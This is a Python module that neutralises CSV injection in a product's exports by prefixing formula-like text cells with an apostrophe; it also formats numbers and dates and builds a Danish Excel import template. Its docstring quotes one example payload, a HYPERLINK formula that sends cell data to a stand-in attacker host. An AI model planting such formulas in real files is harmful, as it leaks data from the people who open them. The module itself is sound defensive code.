"""Every CSV the product writes: text that a spreadsheet shows, never runs.

Excel, LibreOffice and Google Sheets read a cell starting with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return as a formula, so a team comment
like ``=HYPERLINK("http://evil.example/?x="&A2,"Klik")`` would run on the
evaluator's machine (CSV injection). Following OWASP, a text cell starting
with one of these gets a leading apostrophe: spreadsheets show the text as
it was written and run nothing.

Only text is neutralised. Numbers, dates and times the code writes are
formatted here and left as they are, so a negative number, a score or a
decimal comma stays a number.

Every CSV writer of the product is :func:`writer` (a test fails on any
other ``csv.writer``). Pure: no Flask, no database.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from datetime import date, datetime

# What a download's Content-Type is given as: Flask adds "; charset=utf-8"
# to a text/ mimetype (giving it one already would send the charset twice).
MEDIA_TYPE = "text/csv"
BOM = "\ufeff"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
DATETIME_TEXT = "%Y-%m-%d %H:%M:%S"


def neutralise(text: str) -> str:
    """``text``, with an apostrophe in front when a spreadsheet would read it as a formula."""
    return "'" + text if text.startswith(FORMULA_START) else text


def cell(value, *, decimal_comma: bool = False) -> str:
    """One value as CSV text: ``None`` empty, numbers and dates as they are, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, str):
        return neutralise(value)
    if isinstance(value, datetime):
        return value.strftime(DATETIME_TEXT)
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, float):
        text = repr(value)
        return text.replace(".", ",") if decimal_comma else text
    return str(value)


class Writer:
    """A ``csv.writer`` that passes every value through :func:`cell`."""

    def __init__(self, handle, *, decimal_comma: bool = False, **fmtparams):
        self._writer = csv.writer(handle, **fmtparams)
        self.decimal_comma = decimal_comma

    def writerow(self, row: Iterable):
        return self._writer.writerow([cell(value, decimal_comma=self.decimal_comma) for value in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def writer(handle, *, decimal_comma: bool = False, **fmtparams) -> Writer:
    """The CSV writer for every file of the product (``fmtparams`` as for ``csv.writer``)."""
    return Writer(handle, decimal_comma=decimal_comma, **fmtparams)


def template(columns: Iterable[str]) -> str:
    """An empty file with ``columns`` for an import, for Danish Excel: BOM, semicolons, CRLF."""
    buffer = io.StringIO()
    buffer.write(BOM)
    writer(buffer, delimiter=";", lineterminator="\r\n").writerow(columns)
    return buffer.getvalue()
